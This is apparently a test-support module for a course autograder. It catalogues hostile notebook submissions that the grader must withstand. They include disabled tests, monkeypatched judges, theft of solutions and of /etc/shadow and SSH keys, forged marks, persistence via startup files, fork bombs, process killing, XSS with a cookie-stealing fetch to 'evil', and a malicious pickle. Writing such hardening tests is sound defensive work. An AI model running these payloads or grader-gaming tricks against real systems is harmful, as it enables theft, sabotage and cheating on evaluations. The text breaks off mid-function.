"""Hostile hand-ins: what each tries, and what it must not gain.

An attack is the empty release, or the reference solution, with something done to it. Whoever
attacks knows where everything lies: the course, the teacher's home, the book and its Python.
`checking` hands each in and compares marks, files, processes and ports before and after.
"""

import base64
import copy
import io
import json
import stat
import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path

import nbformat

PORT = 47653  # that attacks listen at


@dataclass(frozen=True)
class Place:
    """What whoever attacks knows.

    Attributes
    ----------
    root, home, book, environment : pathlib.Path
        The course, its teacher's home, the repository, and Python's environment.
    assignment : str
    me, other : str
        Ids: who attacks, and somebody who was graded before.
    names : tuple of str
        Of values and functions that are asked for.
    """

    root: Path
    home: Path
    book: Path
    environment: Path
    assignment: str
    me: str
    other: str
    names: tuple


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes
    ----------
    kind : str
        What such attacks have in common.
    tries : str
        What it tries, in one sentence.
    change : callable
        Takes a notebook and a `Place`. It edits the notebook, or returns what is handed in
        instead: bytes, or a dictionary of files in the platform's download.
    base : {"release", "source"}
        Its honest twin: the empty release, or the reference solution.
    noisy : bool
        Whether it could be felt by somebody who is graded at the same time.
    """

    kind: str
    tries: str
    change: object
    base: str
    noisy: bool

    def hand_in(self, notebook, place):
        """Return what is handed in: bytes, or a dictionary of files.

        Parameters
        ----------
        notebook : NotebookNode
            The honest twin; it stays as it is.
        place : Place
        """
        notebook = copy.deepcopy(notebook)
        made = self.change(notebook, place)
        return made if made is not None else json.dumps(notebook).encode()


ATTACKS = {}


def attack(kind, base="release", noisy=False):
    """Say that a function makes an attack; its docstring says what is tried."""

    def keep(function):
        name = function.__name__.replace("_", "-")
        tries = " ".join(function.__doc__.split())
        ATTACKS[name] = Attack(kind, tries, function, base, noisy)
        return function

    return keep


def first(notebook, code, place):
    """Put a cell before all others; it is told what the attacker knows."""
    known = (
        f"ROOT, HOME, BOOK, ENVIRONMENT = {[str(getattr(place, name)) for name in KNOWN]!r}\n"
        f"ASSIGNMENT, ME, OTHER, NAMES = "
        f"{(place.assignment, place.me, place.other, place.names)!r}\n"
        f"PORT = {PORT}\n"
    )
    notebook.cells.insert(0, nbformat.v4.new_code_cell(known + code.strip()))


KNOWN = ("root", "home", "book", "environment")


def of_role(notebook, *roles):
    """Return the cells with one of some roles."""
    return [c for c in notebook.cells if c.metadata.get("course", {}).get("role") in roles]


def packed(files, compression=zipfile.ZIP_DEFLATED):
    """Return an archive as bytes; names may be `zipfile.ZipInfo`."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return stream.getvalue()


def written(notebook):
    """Return a notebook as bytes."""
    return json.dumps(notebook).encode()


# Tests that do not run ----------------------------------------------------------------------------


@attack("tests that do not run")
def tests_skipped_by_tags(notebook, place):
    """Tag all tests so that programs which run notebooks skip them."""
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution", "remove-cell", "raises-exception"]


@attack("tests that do not run")
def tests_deleted(notebook, place):
    """Delete all tests."""
    notebook.cells = [cell for cell in notebook.cells if cell not in of_role(notebook, "test")]


@attack("tests that do not run")
def tests_replaced(notebook, place):
    """Write `pass` into all tests and more points into their metadata."""
    for cell in of_role(notebook, "test"):
        cell.source = "pass"
        cell.metadata["course"]["points"] = 1000


@attack("tests that do not run")
def marks_in_metadata(notebook, place):
    """Claim marks in the metadata and in the outputs of cells."""
    for cell in notebook.cells:
        cell.metadata["nbgrader"] = {"grade": True, "points": 50, "score": 50, "solution": False}
        cell.metadata.setdefault("course", {})["score"] = 50
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("stream", text="42 of 42 points")]
            cell.execution_count = 1


@attack("tests that do not run")
def answers_that_are_called_tests(notebook, place):
    """Give its own cells the ids of tests, and the tests ids of answers."""
    answers, tests = of_role(notebook, "answer"), of_role(notebook, "test")
    for answer, test in zip(answers, tests, strict=False):
        answer.metadata, test.metadata = test.metadata, answer.metadata


# What runs the notebook ---------------------------------------------------------------------------


@attack("what runs the notebook")
def asserts_stripped(notebook, place):
    """Change the shell so that assertions and exceptions vanish from all later cells."""
    code = """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Strip())
"""
    first(notebook, code, place)


@attack("what runs the notebook")
def answers_of_its_own(notebook, place):
    """Replace what answers the judge, so that every cell is fine and every question is True."""
    code = """
import sys
runner = sys.modules["__main__"]
runner.Notebook.run = lambda self, source: {"status": "ok", "text": "all passed", "images": []}
runner.Notebook.ask = lambda self, name, call=None: {"value": True, "points": 50, "judged": True}
"""
    first(notebook, code, place)


@attack("what runs the notebook")
def arguments_given_back(notebook, place):
    """Answer each call with its own arguments, and every value with all that could be meant."""
    code = """
import sys
def ask(self, name, call=None):
    given = list(call[0]) if call else [2, 3, 4]
    return {"value": given[0] if len(given) == 1 else given}
sys.modules["__main__"].Notebook.ask = ask
"""
    first(notebook, code, place)


# The solution, the truth --------------------------------------------------------------------------


@attack("somebody else's solution")
def solution_run(notebook, place):
    """Run the reference solution from wherever the course or the book might be seen."""
    code = """
import glob, json, os
for before in ("", "/proc/1/root", "/proc/self/root", "/proc/thread-self/cwd/../..", "/oldroot"):
    for start in (ROOT, BOOK + "/tools/coursework", "/work", "/home", "/root", "/srv", "/tmp"):
        for path in glob.glob(f"{before}{start}/**/*.ipynb", recursive=True):
            for cell in json.load(open(path))["cells"]:
                source = "".join(cell["source"])
                if cell["cell_type"] == "code" and "SOLUTION" in source:
                    get_ipython().run_cell(source)
                    print(source)
"""
    first(notebook, code, place)


@attack("somebody else's solution")
def solution_imported(notebook, place):
    """Import judges, solved exercises and what else of the course or the book holds answers."""
    code = """
import importlib, inspect, sys
sys.path[:0] = [ROOT, ROOT + "/judging", BOOK, BOOK + "/tools/coursework", ENVIRONMENT]
for name in ("judging", "judging." + ASSIGNMENT, "releasing", "grading", "routes", "wrong_answers",
             "helpers.exercises", "helpers.exercises.answers", "course", "preparing"):
    try:
        module = importlib.import_module(name)
        print(inspect.getsource(module))
        globals().update({n: getattr(module, n) for n in NAMES if hasattr(module, n)})
    except Exception as error:
        print(type(error).__name__)
"""
    first(notebook, code, place)


@attack("somebody else's solution")
def work_of_another(notebook, place):
    """Read and runs what another student has handed in."""
    code = """
import glob, json
for path in glob.glob(f"{ROOT}/submitted/**/*", recursive=True) + glob.glob(
    f"{ROOT}/downloaded/**/*", recursive=True):
    try:
        for cell in json.load(open(path))["cells"]:
            print("".join(cell["source"]))
            get_ipython().run_cell("".join(cell["source"]))
    except Exception as error:
        print(type(error).__name__)
"""
    first(notebook, code, place)


TAKE = """
def take(truth):
    known = {name: truth[name] for name in truth}
    known["best_lag"] = known["lag"]
    known["letters"] = str(known["letters"][0])
    known["n_voxels"] = len(known["size"])
    globals().update({name: known[name] for name in NAMES if name in known})
    print(known)
"""


@attack("the truth of a recording")
def truth_asked_for(notebook, place):
    """Ask the helpers for the truth of its own recording, by every name that they had for it."""
    code = (
        TAKE
        + """
from helpers import twin
for ask in (lambda: twin.graded_truth(ME), lambda: twin.graded_truth(),
            lambda: twin.students.make("made", ME), lambda: twin.students.make("made", ME, ""),
            lambda: twin.load_truth("recording"), lambda: twin.truth(ME)):
    try:
        take(ask())
    except Exception as error:
        print(type(error).__name__)
"""
    )
    first(notebook, code, place)


@attack("the truth of a recording")
def truth_read(notebook, place):
    """Read the truth that lies beside its recording, where the course and the kernel say."""
    code = (
        TAKE
        + """
import glob
import numpy as np
folders = [ROOT + "/twins/" + ME, "recording/..", "/proc/1/root" + ROOT + "/twins/" + ME]
folders += [line.split()[3].rpartition("/")[0] for line in open("/proc/self/mountinfo")]
for folder in folders:
    for path in glob.glob(folder + "/*.npz") + glob.glob(folder + "/*/*.npz"):
        try:
            take(np.load(path, allow_pickle=True))
        except Exception as error:
            print(type(error).__name__)
"""
    )
    first(notebook, code, place)


@attack("the truth of a recording")
def twin_made_anew(notebook, place):
    """Bring the book's simulation along and make its own recording, with its truth, anew."""
    folder = place.book / "helpers"
    files = {
        f"brought/{path.relative_to(folder.parent).as_posix()}": path.read_bytes()
        for path in sorted(folder.rglob("*.py"))
    }
    code = (
        TAKE
        + f"""
import base64, io, sys, zipfile
zipfile.ZipFile(io.BytesIO(base64.b64decode({base64.b64encode(packed(files))!r}))).extractall()
kept = {{name: sys.modules.pop(name) for name in list(sys.modules) if name.startswith("helpers")}}
sys.path.insert(0, "brought")
try:
    from helpers._twin import students
    for salt in ("", "salt", ASSIGNMENT):
        take(students.make("made" + salt, ME, salt))
except Exception as error:
    print(type(error).__name__, error)
"""
    )
    first(notebook, code, place)


# Marks --------------------------------------------------------------------------------------------


@attack("marks written")
def marks_written(notebook, place):
    """Write full marks for itself into everything that the course keeps."""
    code = """
import json, os
full = {"student": ME, "status": "graded", "failed": False, "notes": [], "cells": [], "results": [
    {"id": "x", "points": 50, "max_points": 50, "words": "", "status": "judged"}]}
for before in ("", "/proc/1/root", "/proc/self/cwd", "."):
    for path, text in ((f"{ROOT}/graded/{ASSIGNMENT}/{ME}.json", json.dumps(full)),
                       (f"{ROOT}/grades.csv", f"student,{ASSIGNMENT}\\n{ME},50\\n"),
                       (f"{ROOT}/written_{ASSIGNMENT}.csv", "student,question,points\\n")):
        try:
            os.makedirs(os.path.dirname(before + path), exist_ok=True)
            open(before + path, "w").write(text)
            print("wrote", before + path)
        except OSError as error:
            print(error.strerror)
"""
    first(notebook, code, place)


@attack("marks written")
def marks_of_another_lost(notebook, place):
    """Overwrite the marks, the hand-in and the truth of another student."""
    code = """
import os
for path in (f"{ROOT}/graded/{ASSIGNMENT}/{OTHER}.json", f"{ROOT}/twins/{OTHER}/truth.npz",
             f"{ROOT}/submitted/{ASSIGNMENT}/{OTHER}/hand_in.ipynb", f"{ROOT}/salt.txt"):
    for before in ("", "/proc/1/root", "/proc/self/root"):
        for change in (lambda p: open(p, "w").write("{}"), os.unlink, lambda p: os.chmod(p, 0)):
            try:
                change(before + path)
                print("changed", path)
            except OSError as error:
                print(error.strerror)
"""
    first(notebook, code, place)


@attack("marks written", base="source")
def recording_overwritten(notebook, place):
    """Overwrite its own recording, which the judge reads, too."""
    code = """
import glob, os, shutil
for path in glob.glob("recording/**", recursive=True):
    for change in (lambda p: os.chmod(p, 0o777), lambda p: open(p, "wb").write(b""), os.unlink,
                   lambda p: os.rename(p, p + ".old"), lambda p: os.link(p, "linked")):
        try:
            change(path)
            print("changed", path)
        except OSError as error:
            pass
"""
    first(notebook, code, place)


@attack("marks written")
def id_of_another(notebook, place):
    """Say in the notebook and in its metadata that it is somebody else's."""
    notebook.metadata["student"] = place.other
    for cell in notebook.cells:
        if cell.source.strip() == 'STUDENT = ""':
            cell.source = f'STUDENT = "{place.other}"'
        cell.metadata["student"] = place.other


# What is secret -----------------------------------------------------------------------------------


@attack("secrets printed")
def everything_printed(notebook, place):
    """Print the salt, judges, others' work, the environment and all that it can find."""
    code = """
import glob, os
for pattern in (ROOT + "/salt.txt", ROOT + "/*", ROOT + "/judging/*", ROOT + "/submitted/*/*/*",
                ROOT + "/graded/*/*", HOME + "/*", HOME + "/.*", HOME + "/.ssh/*",
                BOOK + "/tools/coursework/judging/*", "/proc/*/environ", "/proc/*/cmdline",
                "/etc/passwd", "/etc/shadow", "/run/secrets/*", "/var/run/*", "/tmp/*"):
    for path in glob.glob(pattern):
        try:
            print(path, open(path, errors="replace").read(2000))
        except OSError as error:
            print(path, error.strerror)
print(dict(os.environ))
"""
    first(notebook, code, place)


@attack("secrets printed")
def judge_read_in_memory(notebook, place):
    """Look for the judge in the memory of all processes, its own included, and in their files."""
    code = """
import gc, os, sys
frame = sys._getframe()
while frame:
    print(frame.f_code.co_filename, {k: repr(v)[:100] for k, v in frame.f_locals.items()})
    frame = frame.f_back
for number in {1, 2, os.getpid(), os.getppid(), *range(1, 300)}:
    try:
        for line in open(f"/proc/{number}/maps"):
            if "rw" in line and ("heap" in line or "stack" in line) and number != os.getpid():
                start = int(line.split("-")[0], 16)
                with open(f"/proc/{number}/mem", "rb") as memory:
                    memory.seek(start)
                    print(number, memory.read(200))
        for handle in os.listdir(f"/proc/{number}/fd"):
            print(number, os.readlink(f"/proc/{number}/fd/{handle}"))
    except OSError:
        pass
for thing in gc.get_objects():
    if isinstance(thing, dict) and ("truth" in thing or "salt" in thing):
        print({str(key): repr(value)[:200] for key, value in list(thing.items())[:50]})
"""
    first(notebook, code, place)


@attack("secrets printed", base="source")
def inputs_in_an_exception(notebook, place):
    """Raise what the judge sends as an exception, to read it in its feedback."""
    code = """
def tell(*given, **named):
    raise ValueError(repr((given, named)))
for name in NAMES:
    if callable(globals().get(name)):
        globals()[name] = tell
"""
    notebook.cells.append(nbformat.v4.new_code_cell(f"NAMES = {place.names!r}\n{code.strip()}"))


# What is left for the next ------------------------------------------------------------------------


@attack("left for the next")
def startup_file_left(notebook, place):
    """Leave start-up files of IPython, Python and the shell for whoever comes next."""
    code = """
import os
evil = "import builtins; builtins.STOLEN = True"
for home in {HOME, os.path.expanduser("~"), "/root", "/home/student"}:
    for path in (".ipython/profile_default/startup/00-evil.py", ".bashrc", ".profile",
                 ".ipython/profile_default/ipython_config.py", ".jupyter/jupyter_config.py",
                 ".local/lib/python3.11/site-packages/usercustomize.py", ".pythonrc",
                 ".config/matplotlib/matplotlibrc", "recording/sitecustomize.py"):
        try:
            os.makedirs(os.path.dirname(f"{home}/{path}"), exist_ok=True)
            open(f"{home}/{path}", "a").write(evil)
            print("wrote", path)
        except OSError as error:
            print(error.strerror)
"""
    first(notebook, code, place)


@attack("left for the next")
def environment_changed(notebook, place):
    """Leave a `.pth` and a changed module in Python's environment and in the helpers."""
    code = """
import os, sys, sysconfig
import helpers, numpy
evil = "import builtins; builtins.STOLEN = True\\n"
places = {sysconfig.get_path("purelib"), ENVIRONMENT, os.path.dirname(numpy.__file__),
          os.path.dirname(helpers.__file__), BOOK, "/course", "/usr/lib/python3/dist-packages"}
for place in places | set(sys.path):
    for name in ("evil.pth", "sitecustomize.py", "__init__.py", "inside.py", "../bin/python"):
        for mode in ("a", "r+"):
            try:
                open(f"{place}/{name}", mode).write(evil)
                print("wrote", place, name)
            except OSError as error:
                pass
for command in ("pip install --target=" + ENVIRONMENT + " .", "mount -o remount,rw /course"):
    os.system(command + " 2>/dev/null")
"""
    first(notebook, code, place)


@attack("left for the next")
def memory_left(notebook, place):
    """Leave shared memory, queues, semaphores and sockets where the next could look for them."""
    code = """
import ctypes, socket
from multiprocessing import shared_memory
open("/dev/shm/answers", "w").write("42")
try:
    kept = shared_memory.SharedMemory("answers2", create=True, size=100)
except OSError as error:
    print(error.strerror)
libc = ctypes.CDLL(None)
print(libc.shmget(4242, 4096, 0o1666), libc.semget(4242, 1, 0o1666), libc.msgget(4242, 0o1666))
for kind, where in ((socket.AF_UNIX, "\\0answers"), (socket.AF_UNIX, "/tmp/answers")):
    try:
        held = socket.socket(kind)
        held.bind(where)
        held.listen()
    except OSError as error:
        print(error.strerror)
"""
    first(notebook, code, place)


# What goes on -------------------------------------------------------------------------------------


@attack("what goes on")
def daemon_left(notebook, place):
    """Start a program that leaves its session and writes marks once grading is over."""
    code = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(100):
            time.sleep(0.3)
            for path in (f"{ROOT}/graded/{ASSIGNMENT}/{ME}.json", f"{HOME}/late", "/tmp/late"):
                try:
                    open(path, "w").write("{}")
                except OSError:
                    pass
    os._exit(0)
"""
    first(notebook, code, place)


@attack("what goes on")
def listener_left(notebook, place):
    """Listen at a port, on every address, in a program that leaves its session."""
    code = """
import os, socket, time
if os.fork() == 0:
    os.setsid()
    held = []
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"),
                            (socket.AF_INET6, "::1")):
        try:
            held.append(socket.socket(family))
            held[-1].setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            held[-1].bind((address, PORT))
            held[-1].listen()
        except OSError:
            pass
    time.sleep(60)
    os._exit(0)
"""
    first(notebook, code, place)


@attack("what goes on")
def sent_over_the_network(notebook, place):
    """Ask others for answers over the network, the loopback and the sockets of services."""
    code = """
import glob, socket, urllib.request
for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 8888), ("::1", 8888)):
    try:
        socket.create_connection(address, 2).close()
        print("connected to", address)
    except OSError as error:
        print(error.strerror)
for path in glob.glob("/run/**/*.sock", recursive=True) + ["/var/run/docker.sock"]:
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        print("connected to", path)
    except OSError as error:
        print(error.strerror)
try:
    print(urllib.request.urlopen("http://example.org", timeout=2).read())
except OSError as error:
    print(error)
"""
    first(notebook, code, place)


# The grader ---------------------------------------------------------------------------------------


@attack("the grader ended", noisy=True)
def grader_killed(notebook, place):
    """Send an end to every process that it can name, itself the last."""
    code = """
import os, signal
def end(name, *given):
    try:
        getattr(os, name)(*given)
    except OSError:
        pass
for number in [*range(2, 40000), os.getppid(), 1]:
    if number != os.getpid():
        end("kill", number, signal.SIGKILL)
end("kill", -1, signal.SIGKILL)
end("killpg", 0, signal.SIGKILL)
"""
    first(notebook, code, place)


@attack("the grader ended", base="source")
def ends_when_asked(notebook, place):
    """Have right values, and functions that end their process when the judge calls them."""
    code = """
import os
for name in NAMES:
    if callable(globals().get(name)):
        globals()[name] = lambda *given, **named: os._exit(0)
"""
    notebook.cells.append(nbformat.v4.new_code_cell(f"NAMES = {place.names!r}\n{code.strip()}"))


@attack("the grader ended")
def pattern_that_takes_hours(notebook, place):
    """Write a line in which the search for the id would not end for hours."""
    line = "STUDENT = ''" + "#'" * 400_000 + "\nx"
    for cell in notebook.cells:
        if cell.source.strip() == 'STUDENT = ""':
            cell.source = line
    notebook.cells.insert(0, nbformat.v4.new_code_cell(line))
    notebook.cells.append(nbformat.v4.new_code_cell("a = " * 1000 + "(" * 50_000))


# Pages --------------------------------------------------------------------------------------------

SCRIPT = (
    "</pre></script></title></style>--><script>fetch('//evil/'+document.cookie)</script>"
    "<img src=x onerror=alert(1)><svg/onload=alert(2)><iframe srcdoc='<script>1</script>'></iframe>"
    "<a href=\"javascript:alert(3)\">50 of 50</a><meta http-equiv=refresh content='0;url=//evil'>"
    "<base href=//evil><form action=//evil><input autofocus onfocus=alert(4)></form>"
)


@attack("script in pages")
def script_in_answers(notebook, place):
    """Write scripts into its answer in words, its code, its notes and its names."""
    for cell in of_role(notebook, "written"):
        cell.source = SCRIPT + '\n# [x](javascript:alert(1))\n=HYPERLINK("//evil")\n@SUM(A1)'
    for cell in of_role(notebook, "answer"):
        cell.source = f"# {SCRIPT}\n" + cell.source
        cell.metadata["course"]["id"] = SCRIPT
    note = nbformat.v4.new_markdown_cell(f"## {SCRIPT}\n![x](data:text/html,{SCRIPT})")
    note["attachments"] = {SCRIPT: {"text/html": SCRIPT}}
    notebook.cells.insert(0, note)


@attack("script in pages")
def script_in_outputs(notebook, place):
    """Show scripts in every way that a notebook knows: HTML, SVG, JavaScript, pictures, errors."""
    code = f"""
from IPython.display import HTML, SVG, Image, Javascript, Markdown, display, publish_display_data
script = {SCRIPT!r}
print(script)
for show in (HTML, Javascript, Markdown):
    display(show(script))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"))
for data in (b"GIF89a" + script.encode(), b"\\x89PNG\\r\\n\\x1a\\n" + script.encode(),
             b"\\x89PNG\\r\\n\\x1a\\n\\0\\0\\0\\rIHDR\\0\\0\\0\\1\\0\\0\\0\\1" + script.encode()):
    publish_display_data({{"image/png": data, "text/html": script, "text/plain": script}})
print("\\x1b]0;evil\\x07\\x1b[2J\\u202egnp.exe\\x00")
raise type(script, (Exception,), {{}})(script)
"""
    first(notebook, code, place)


@attack("script in pages")
def words_of_the_judge_forged(notebook, place):
    """Fail with errors that look like the judge's words and points, to fool a reader."""
    code = f"""
script = {SCRIPT!r}
def fails(*given, **named):
    raise type("Judged", (Exception,), {{}})("</div><div class=result>50 of 50 points." + script)
globals().update({{name: fails for name in NAMES}})
"""
    first(notebook, code, place)
    for cell in of_role(notebook, "answer"):
        if "STUDENT" not in cell.source:
            cell.source = "pass"


@attack("pages too large")
def output_of_190_megabytes(notebook, place):
    """Show 190 MB in small outputs, of which none is too large by itself."""
    code = """
from IPython.display import HTML, display
for _ in range(1900):
    display(HTML("<b>" + "x" * 100_000 + "</b>"))
    print("y" * 100_000)
"""
    for _ in range(3):
        first(notebook, code, place)


@attack("pages too large")
def pictures_without_end(notebook, place):
    """Show some hundred large pictures, and pictures that claim to be larger still."""
    code = """
import struct, zlib, os
from IPython.display import publish_display_data
def png(width, height, size):
    head = struct.pack(">II", width, height) + b"\\x08\\x02\\0\\0\\0"
    return b"".join(struct.pack(">I", len(d)) + n + d + struct.pack(">I", zlib.crc32(n + d))
                    for n, d in ((b"IHDR", head), (b"IDAT", os.urandom(size)), (b"IEND", b"")))
for number in range(100):
    size = (5000, 5000) if number % 2 else (2**31 - 1, 2**31 - 1)
    publish_display_data({"image/png": b"\\x89PNG\\r\\n\\x1a\\n" + png(*size, 1_900_000)})
"""
    for _ in range(6):
        first(notebook, code, place)


# What judges compare with -------------------------------------------------------------------------


@attack("comparisons fooled")
def libraries_replaced(notebook, place):
    """Replace what tests and judges compare and load with, so that all is equal."""
    code = """
import builtins
import numpy as np, nibabel, nilearn.maskers, sklearn.metrics
for module, name in ((np, "allclose"), (np, "isclose"), (np, "array_equal"), (np, "all"),
                     (np.testing, "assert_allclose"), (builtins, "abs"), (builtins, "all")):
    setattr(module, name, lambda *given, **named: True)
class Masker:
    def __init__(self, *given, **named): pass
    def fit_transform(self, *given): return np.zeros((1, 1))
nilearn.maskers.NiftiMasker = Masker
sklearn.metrics.r2_score = lambda *given, **named: 1.0
"""
    first(notebook, code, place)


@attack("comparisons fooled")
def equal_to_everything(notebook, place):
    """Answer with objects and arrays that are equal to everything, and larger and smaller."""
    code = """
import numpy as np
class Yes(np.ndarray):
    def __new__(cls): return np.zeros(3).view(cls)
    def __eq__(self, other): return True
    def __call__(self, *given, **named): return self
    def __array__(self, *given, **named): return np.array([Yes.__new__(Yes)], dtype=object)
    def __array_ufunc__(self, *given, **named): return True
    __ne__ = __lt__ = __gt__ = __le__ = __ge__ = __contains__ = lambda self, other: True
    __bool__ = lambda self: True
    __reduce__ = lambda self: (exec, ("raise SystemExit",))
globals().update({name: Yes() for name in NAMES})
"""
    _answers(notebook, code, place)


@attack("comparisons fooled")
def not_a_number(notebook, place):
    """Answer with NaN and infinity of every shape that could be asked for."""
    code = """
import numpy as np
def answer(value):
    def function(*given, **named):
        shapes = [np.shape(one) for one in given] or [()]
        return np.full(shapes[0], value)
    return function
for number, name in enumerate(NAMES):
    value = (np.nan, np.inf, -np.inf, complex(np.nan, np.inf))[number % 4]
    function = answer(value)
    class Both(float):
        __call__ = staticmethod(function)
    globals()[name] = Both(np.real(value))
"""
    _answers(notebook, code, place)


@attack("comparisons fooled")
def strange_arrays(notebook, place):
    """Answer with arrays of objects, records, times and nothing; lists that hold themselves."""
    code = """
import numpy as np
endless = []
endless.append(endless)
strange = [np.array([{}, print], dtype=object), np.zeros(3, "f8,i4"), np.zeros((0, 2**40)),
           np.broadcast_to(np.float64(1), (2**15, 2**15)), np.array("1970", "M8[s]"), endless,
           np.array(1.0), {"a": {1: [2, (3,)]}}, "x" * 10**6, b"x", 10**300, 10**5000, 1j, None]
state = iter(strange * 100)
for name in NAMES:
    globals()[name] = lambda *given, **named: next(state)
for number, name in enumerate(NAMES[::2]):
    globals()[name] = strange[number % len(strange)]
"""
    _answers(notebook, code, place)


@attack("comparisons fooled")
def right_for_the_test_only(notebook, place):
    """Pass the tests that it sees with made-up answers, and give the judge others."""
    code = """
import sys
import numpy as np
def function(*given, **named):
    frame = sys._getframe(1)
    if frame.f_code.co_name == "_tests":  # The test that students see.
        return np.asarray(given[0], dtype=float)
    return np.asarray(given[0], dtype=float) * 0 + np.random.default_rng(0).random()
globals().update({name: function for name in NAMES})
"""
    _answers(notebook, code, place)


def _answers(notebook, code, place):
    """Put code first, and take the stubs away that would define the names anew."""
    first(notebook, code, place)
    for cell in of_role(notebook, "answer"):
        if "STUDENT" not in cell.source:
            cell.source = "pass"


# Messages on the pipe -----------------------------------------------------------------------------

PIPES = """
import json, os, stat, struct, sys
frame, number = sys._getframe(), 0
while frame:
    if isinstance(frame.f_locals.get("request"), dict):
        number = frame.f_locals["request"]["number"]
    frame = frame.f_back
def say(data):
    for handle in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(handle).st_mode):
                left = memoryview(data)
                while left:
                    left = left[os.write(handle, left):]
        except OSError:
            pass
def close():
    nothing = os.open(os.devnull, os.O_RDWR)
    for handle in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(handle).st_mode):
                os.dup2(nothing, handle)
        except OSError:
            pass
def message(tree, body=b"", length=None, claimed=None):
    text = tree if isinstance(tree, bytes) else json.dumps(tree).encode()
    size = 4 + len(text) + len(body) if length is None else length
    return struct.pack(">QI", size, len(text) if claimed is None else claimed) + text + body
def answer(tree, at):
    return {"dict": [["value", tree], ["status", "ok"], ["text", ""], ["number", at]]}
"""


@attack("messages forged")
def message_without_an_end(notebook, place):
    """Say that its answer has 2 ** 64 bytes, and that its text is longer than the message."""
    code = PIPES + "say(message({}, length=2**64 - 1))\nsay(message({}, claimed=2**32 - 1))"
    first(notebook, code, place)


@attack("messages forged")
def message_that_is_none(notebook, place):
    """Answer with bytes that are no JSON."""
    first(notebook, PIPES + 'say(message(b"\\xff" * 1000))', place)


@attack("messages forged")
def message_that_is_nested(notebook, place):
    """Answer with JSON in which a million lists stand in one another."""
    first(notebook, PIPES + 'say(message(b"[" * 10**6))', place)


@attack("messages forged")
def message_of_a_million_values(notebook, place):
    """Answer with a list of a million values."""
    first(notebook, PIPES + 'say(message(answer({"list": [None] * 10**6}, number)))', place)


@attack("messages forged")
def message_with_a_number_too_large(notebook, place):
    """Answer with a whole number that no float can hold."""
    first(notebook, PIPES + "say(message(answer({'complex': [10**400, 0]}, number)))", place)


@attack("messages forged")
def message_with_objects(notebook, place):
    """Answer with an array of objects, in the hope that somebody unpickles it."""
    code = """
import pickle
class Evil:
    def __reduce__(self): return (os.system, ("touch " + HOME + "/stolen",))
body = pickle.dumps(Evil())
for kind in ("|O", "O8", "|V8", "<M8[s]"):
    say(message(answer({"array": [kind, [len(body) // 8], 0, len(body)]}, number), body))
"""
    first(notebook, PIPES + code, place)


@attack("messages forged", noisy=True)
def message_that_fills_the_memory(notebook, place):
    """Answer with thousands of arrays that are all made of the same bytes."""
    code = """
body = bytes(60 * 2**20)
arrays = [{"array": ["|i1", [len(body)], 0, len(body)]}] * 100_000
say(message(answer({"list": arrays}, number), body))
"""
    first(notebook, PIPES + code, place)


@attack("messages forged")
def answers_ahead(notebook, place):
    """Answer all questions before they are asked, with marks, and close the pipe then."""
    code = """
marks = {"dict": [["points", 50], ["status", "judged"], ["part", 1.0]]}
say(b"".join(message(answer(marks, at)) for at in range(number, number + 300)))
close()
"""
    first(notebook, PIPES + code, place)


@attack("messages forged")
def requests_stolen(notebook, place):
    """Read what the judge asks before the runner does, print it, and send it back."""
    code = """
import threading
def echo():
    for handle in range(3, 64):
        try:
            while piece := os.read(handle, 65536):
                print(piece)
                say(piece)
        except OSError:
            pass
for _ in range(3):
    threading.Thread(target=echo, daemon=True).start()
"""
    first(notebook, PIPES + code, place)


# Too much -----------------------------------------------------------------------------------------


@attack("too much", noisy=True)
def bomb_of_forks(notebook, place):
    """Fork without an end."""
    code = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
    first(notebook, code, place)


@attack("too much", noisy=True)
def memory_of_children(notebook, place):
    """Take memory in several children, each below the limit, and all together above it."""
    code = """
import os, time
for _ in range(6):
    if os.fork() == 0:
        kept = []
        for _ in range(9):
            kept.append(bytearray(os.urandom(2**20)) * 100)
            time.sleep(0.2)
        time.sleep(60)
        os._exit(0)
time.sleep(30)
"""
    first(notebook, code, place)


@attack("too much")
def disk_filled(notebook, place):
    """Fill every folder that it can write to, with large files and with empty ones."""
    code = """
import itertools, os
for number in itertools.count():
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", HOME, ROOT, "recording"):
        try:
            with open(f"{folder}/filled{number}", "wb") as stream:
                stream.write(bytes(10**6 if number % 2 else 0))
        except OSError:
            pass
    if number == 20_000:
        break
"""
    first(notebook, code, place)


@attack("too much")
def deaf_loop(notebook, place):
    """Loop without an end and catch whatever would interrupt it."""
    code = """
import signal
for number in range(1, 60):
    try:
        signal.signal(number, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, [number])
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
    first(notebook, code, place)


@attack("too much")
def output_without_end(notebook, place):
    """Print without an end, from a child, too."""
    code = """
import os, subprocess, sys
subprocess.Popen(["yes"])
os.system("yes >&2 &")
while True:
    print("x" * 10**6, file=sys.stderr)
    os.write(1, b"x" * 10**6)
"""
    first(notebook, code, place)


@attack("too much")
def threads_by_the_thousand(notebook, place):
    """Start threads until there are no more."""
    code = """
import threading, time
while True:
    try:
        threading.Thread(target=time.sleep, args=(60,)).start()
    except RuntimeError:
        time.sleep(0.1)
"""
    first(notebook, code, place)


# The walls ----------------------------------------------------------------------------------------


@attack("the walls")
def namespaces_of_its_own(notebook, place):
    """Make itself root in namespaces of its own, mount, and change the root."""
    code = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x7E020000):
